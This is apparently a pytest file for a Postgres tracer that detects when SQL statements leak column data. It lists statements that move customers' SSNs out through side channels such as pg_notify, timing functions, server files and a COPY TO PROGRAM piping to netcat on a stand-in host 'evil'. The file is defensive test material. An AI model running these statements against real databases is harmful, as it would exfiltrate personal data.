"""Statements of other kinds: what they give, run and name."""

from __future__ import annotations

import pytest

from plugins.postgres.tests.handmade import PATH, TRACER, columns, escapes, traced
from recgate_postgres.origin.model import Untraceable
from recgate_postgres.origin.tracing import MAX_STATEMENTS

ESCAPES = {
    "create table x as select ssn from customers": "CREATE TABLE AS: customers.ssn",
    "create temp table x as table customers": "CREATE TABLE AS: customers.id customers.name customers.ssn",
    "select ssn into x from customers": "SELECT INTO: customers.ssn",
    "create materialized view x as select ssn from customers": "CREATE MATERIALIZED VIEW: customers.ssn",
    "copy customers (ssn) to program 'nc evil 1'": "COPY TO PROGRAM: customers.ssn",
    "copy (select ssn from customers) to '/tmp/x'": "COPY TO a file of the server: customers.ssn",
    "copy customers to stdout": "",
    "copy customers from stdin": "",
    "select set_config('a.b', ssn, false) from customers": "function set_config: customers.ssn",
    "select pg_notify('c', ssn) from customers": "function pg_notify: customers.ssn",
    "select 1 from customers where pg_notify('c', ssn) is null": "function pg_notify: customers.ssn",
    "select lo_from_bytea(0, ssn::bytea) from customers": "function lo_from_bytea: customers.ssn",
    "select setval('s', length(ssn)) from customers": "function setval: customers.ssn",
    "select pg_advisory_lock(length(ssn)) from customers": "function pg_advisory_lock: customers.ssn",
    "select pg_sleep(length(ssn)) from customers": "function pg_sleep: customers.ssn",
    "select pg_logical_emit_message(true, 'x', ssn) from customers": (
        "function pg_logical_emit_message: customers.ssn"
    ),
    "explain analyze insert into orders (note) select ssn from customers": (
        "INSERT into public.orders: customers.ssn"
    ),
}
REFUSED = {
    "select * from nowhere": "nowhere is not known",
    "select * from other.nowhere": "other.nowhere is not known",
    "select nowhere from customers": "the column nowhere is not known",
    "select x.ssn from customers": "x is not in FROM",
    "select * from pair": "public.pair is no table and no view",
    "select * from round": "goes too deep",
    "select * from broken": "(in public.broken)",
    "select * from pg_temp.x": "may be a temporary table",
    "copy orders from program 'x'": "what COPY reads from a file or program",
    "copy orders from '/tmp/x'": "what COPY reads from a file or program",
    "explain execute p": "what EXPLAIN shows of a prepared statement",
    "create table t as execute p": "CREATE TABLE AS of a prepared statement",
    "select 1;; nonsense": "it cannot be read",
    "with recursive r as (select * from r) select * from r": "r reads itself",
    "select * from customers tablesample opaque (1)": "the sampling method opaque",
    "set search_path = other; select * from customers": "a statement before it changes what names mean",
    "select set_config('search_path', 'other', false); select * from customers": (
        "a statement before it changes"
    ),
    "rollback; select * from customers": "a statement before it changes what names mean",
}


@pytest.mark.parametrize("text", ESCAPES)
def test_what_leaves_otherwise_than_by_a_result(text):
    assert escapes(text) == ESCAPES[text]


@pytest.mark.parametrize("text", REFUSED)
def test_what_is_not_followed(text):
    with pytest.raises(Untraceable) as raised:
        TRACER.trace(text, PATH)
    assert REFUSED[text] in str(raised.value)


def test_explain_shows_what_it_reads():
    found = traced("explain select name from customers where ssn = 'x'")
    assert columns(found) == ["customers.name customers.ssn"]
    assert found.plain == (False,)


def test_names_of_statements_and_cursors():
    (made,) = traced("prepare p as select ssn from customers").made
    assert made[:2] == ("statement", "p")
    assert columns(made[2])[0] == "customers.ssn"
    assert traced("execute p(1)").runs == (("statement", "p"),)
    assert traced("fetch all from c").runs == (("cursor", "c"),)
    assert traced("move all from c").runs == ()
    assert traced("declare c cursor for table customers").columns is None


def test_several_statements_are_several():
    first, second = TRACER.trace("select ssn from customers; select 1", PATH)
    assert columns(first)[0] == "customers.ssn"
    assert second.columns == (frozenset(),)
    assert TRACER.trace("begin; select 1; commit", PATH)[0].columns is None
    assert TRACER.trace("-- nothing", PATH) == ()
    with pytest.raises(Untraceable):
        TRACER.trace("select 1;" * (MAX_STATEMENTS + 1), PATH)
